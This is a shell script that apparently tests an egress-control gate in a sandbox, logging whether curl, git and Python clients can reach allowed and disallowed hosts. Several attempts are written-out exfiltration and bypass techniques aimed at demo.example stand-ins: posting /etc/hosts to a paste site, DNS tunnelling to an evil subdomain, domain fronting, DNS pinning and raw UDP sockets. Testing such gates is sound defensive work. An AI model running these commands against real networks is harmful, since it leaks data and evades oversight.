#!/bin/sh
# What the demo runs in a sandbox: real clients, none of which knows about the gate. Each line of `attempts.jsonl` says
# what was tried, when, and what the client made of it.

attempt() {
  what=$1; shift
  began=$(date +%s.%N)
  output=$("$@" 2>&1); status=$?
  ended=$(date +%s.%N)
  printf '%s' "$output" | tail -c 2000 > output
  printf '%s\t%s\t%s\t%s\n' "$began" "$ended" "$status" "$what" >> attempts.tsv
}

web='curl --silent --show-error --fail-with-body --max-time 10'
held='curl --silent --show-error --fail-with-body --max-time 60'

attempt 'curl GET an allowed path'                $web https://api.demo.example/echo
attempt 'curl POST to the same path'              $web --data x https://api.demo.example/echo
attempt 'curl a path nobody allowed'              $web https://api.demo.example/secrets
attempt 'Python urllib GET an allowed path'       python3 -c 'import urllib.request as u; u.urlopen("https://api.demo.example/echo", timeout=10)'
attempt 'git clone an allowed repository'         git clone --quiet https://git.demo.example/acme.git clone
attempt 'git clone another repository'            git clone --quiet https://git.demo.example/other.git other
git -C clone -c user.name=agent -c user.email=agent@demo.example commit --quiet --allow-empty --message change
attempt 'git push to a feature branch'            git -C clone push --quiet origin HEAD:refs/heads/topic
attempt 'git push to main (held, one approves)'   git -C clone push --quiet origin HEAD:refs/heads/main
attempt 'a migration (held, two approve)'         $held --data 'alter table' https://db.demo.example/migrations/7
attempt 'another migration (held, one rejects)'   $held --data 'drop table' https://db.demo.example/migrations/8
attempt 'curl a spliced host'                     $web https://files.packages.demo.example/echo
attempt 'curl a flagged host'                     $web https://telemetry.demo.example/echo
attempt 'curl a paste site'                       $web --data @/etc/hosts https://x.paste.demo.example/
attempt 'curl a name no rule knows'               $web https://unknown.demo.example/
attempt 'curl an address literal'                 $web --insecure https://93.184.216.34/
attempt 'an allowed name at an address of one'\''s own' $web --resolve api.demo.example:443:203.0.113.9 https://api.demo.example/echo
attempt 'fronting: allowed SNI, another Host'     $web --header 'Host: hidden.demo.example' https://cdn.demo.example/echo
attempt 'an allowed name on a private address'    $web https://internal.demo.example/
attempt 'DNS carrying data out'                   python3 -c 'import socket; socket.gethostbyname("c2VjcmV0.evil.demo.example")'
attempt 'UDP to anywhere'                         python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("203.0.113.9", 9999)); s.send(b"x"); s.settimeout(1); s.recv(1)'
attempt 'QUIC'                                    python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("203.0.113.9", 443)); s.send(b"x"); s.settimeout(1); s.recv(1)'
attempt 'a raw socket'                            python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'

touch tried
while [ ! -e seen ]; do sleep 0.05; done
